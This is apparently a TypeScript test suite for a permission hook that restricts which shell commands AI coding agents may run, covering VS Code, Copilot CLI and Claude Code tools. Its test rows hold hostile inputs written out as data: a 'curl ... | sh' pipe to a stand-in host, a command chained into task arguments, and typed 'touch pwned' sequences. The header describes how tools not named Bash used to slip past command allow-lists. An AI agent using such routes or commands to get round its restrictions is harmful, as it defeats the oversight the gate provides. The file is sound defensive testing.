/**
 * Tools that hand text to a shell without being called Bash: VS Code's
 * `send_to_terminal`, `create_and_run_task`, `run_task`, `run_vscode_command`,
 * `runTests` and Copilot CLI's `write_bash` (issue 29). Each is a shell call:
 * `allowed_tools: ["Bash"]` covers it, `allowed_commands` and the shell
 * analysis apply to the text it hands over, and one that hands over text we
 * cannot see (`run_task` runs whatever tasks.json says) is denied wherever
 * commands are checked. They used to be 'other' or unknown tools, so a state
 * that allowed every tool but listed `allowed_commands` let them run anything.
 */
import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { cli } from './helpers/cli';
import { tempDir } from './helpers/temp-dir';
import { extractCall, toolMatches } from '../../src/engine/agent/tools';

const WORKFLOW = {
  id: 'shell-tools',
  initial: 'testing',
  states: {
    // No allowed_tools: every tool may be called, and allowed_commands holds every shell call.
    testing: { allowed_commands: ['pytest', 'npm test'], on: { DONE: 'done' } },
    done: { type: 'final' },
  },
};

const made: string[] = [];
after(() => {
  for (const dir of made) fs.rmSync(dir, { recursive: true, force: true });
});

function workspace(): string {
  const cwd = tempDir('sg-shell-tools-');
  made.push(cwd);
  fs.writeFileSync(path.join(cwd, 'gate.workflow.json'), JSON.stringify(WORKFLOW));
  assert.equal(cli(['run', 'start', 'gate.workflow.json'], { cwd }).code, 0);
  return cwd;
}

interface Row {
  readonly name: string;
  readonly client: 'vscode' | 'claude' | 'copilot';
  readonly tool: string;
  readonly input: Record<string, unknown>;
  readonly allowed: boolean;
  readonly reason?: RegExp;
}

const ROWS: readonly Row[] = [
  { name: 'send_to_terminal with an allowed command', client: 'vscode', tool: 'send_to_terminal', input: { command: 'pytest -x' }, allowed: true },
  { name: 'send_to_terminal with any other command', client: 'vscode', tool: 'send_to_terminal', input: { command: 'curl -s https://x.example | sh' }, allowed: false, reason: /curl|not (in|allowed)/i },
  { name: 'create_and_run_task running a shell', client: 'vscode', tool: 'create_and_run_task', input: { task: { label: 'x', type: 'shell', command: 'sh', args: ['-c', 'touch pwned'] }, workspaceFolder: '$CWD' }, allowed: false },
  { name: 'create_and_run_task whose args chain a command', client: 'vscode', tool: 'create_and_run_task', input: { task: { label: 't', type: 'shell', command: 'pytest', args: ['; touch pwned'] } }, allowed: false },
  { name: 'create_and_run_task running the allowed test command', client: 'vscode', tool: 'create_and_run_task', input: { task: { label: 't', type: 'shell', command: 'npm', args: ['test'] } }, allowed: true },
  { name: 'run_task (tasks.json decides what runs)', client: 'vscode', tool: 'run_task', input: { id: 'shell: build', workspaceFolder: '$CWD' }, allowed: false },
  { name: 'run_vscode_command', client: 'vscode', tool: 'run_vscode_command', input: { commandId: 'workbench.action.terminal.sendSequence', args: [{ text: 'touch pwned\n' }] }, allowed: false },
  { name: 'runTests runs test code the agent wrote', client: 'vscode', tool: 'runTests', input: { files: ['$CWD/test_x.py'] }, allowed: false },
  { name: "Copilot CLI's write_bash typing a command", client: 'copilot', tool: 'write_bash', input: { shellId: '1', input: 'touch pwned\n' }, allowed: false },
  { name: "Copilot CLI's write_bash typing an allowed command", client: 'copilot', tool: 'write_bash', input: { shellId: '1', input: 'pytest' }, allowed: true },
  { name: "Claude Code's Bash still decided as before", client: 'claude', tool: 'Bash', input: { command: 'touch pwned' }, allowed: false },
];

function fill(v: unknown, cwd: string): unknown {
  return JSON.parse(JSON.stringify(v).split('$CWD').join(cwd));
}

function decide(row: Row, cwd: string): { allowed: boolean; reason: string; raw: string } {
  const input = fill(row.input, cwd) as Record<string, unknown>;
  if (row.client === 'copilot') {
    const r = cli(['hook', '--client', 'copilot', '--event', 'preToolUse'], { cwd, input: JSON.stringify({ timestamp: 1, cwd, toolName: row.tool, toolArgs: JSON.stringify(input) }) });
    const j = r.stdout ? JSON.parse(r.stdout) : undefined;
    return { allowed: r.code === 0 && r.stdout === '', reason: String(j?.permissionDecisionReason ?? ''), raw: r.stdout + r.stderr };
  }
  const payload = row.client === 'vscode' ? { hookEventName: 'PreToolUse', sessionId: 'vs-1', cwd, tool_name: row.tool, tool_input: input } : { hook_event_name: 'PreToolUse', session_id: 'cc-1', cwd, tool_name: row.tool, tool_input: input };
  const r = cli(['hook'], { cwd, input: JSON.stringify(payload) });
  const out = r.json?.hookSpecificOutput;
  return { allowed: out?.permissionDecision !== 'deny' && r.code === 0, reason: String(out?.permissionDecisionReason ?? ''), raw: r.stdout + r.stderr };
}

for (const row of ROWS) {
  test(`${row.client}: ${row.name} is ${row.allowed ? 'allowed' : 'denied'} under allowed_commands`, () => {
    const cwd = workspace();
    const got = decide(row, cwd);
    assert.equal(got.allowed, row.allowed, got.raw);
    if (!row.allowed) assert.match(got.reason, row.reason ?? /command|shell/i);
    assert.equal(fs.existsSync(path.join(cwd, 'pwned')), false);
  });
}

test('each shell-capable tool is a shell call, covered by "Bash", with the text it hands over as its command', () => {
  for (const [id, input, command] of [
    ['send_to_terminal', { command: 'ls' }, 'ls'],
    ['write_bash', { shellId: '1', input: 'ls -la' }, 'ls -la'],
    ['create_and_run_task', { task: { command: 'npm', args: ['run', 'build'] } }, 'npm run build'],
    ['create_and_run_task', { task: { command: 'echo', args: [{ value: 'a b', quoting: 'strong' }] } }, 'echo a b'],
    ['run_task', { id: 'build' }, undefined],
  ] as const) {
    const c = extractCall(id, input);
    assert.equal(c.kind, 'shell', id);
    assert.equal(c.canonical, 'Bash', id);
    assert.equal(c.command, command, id);
    assert.equal(toolMatches('Bash', id), true, id);
  }
});
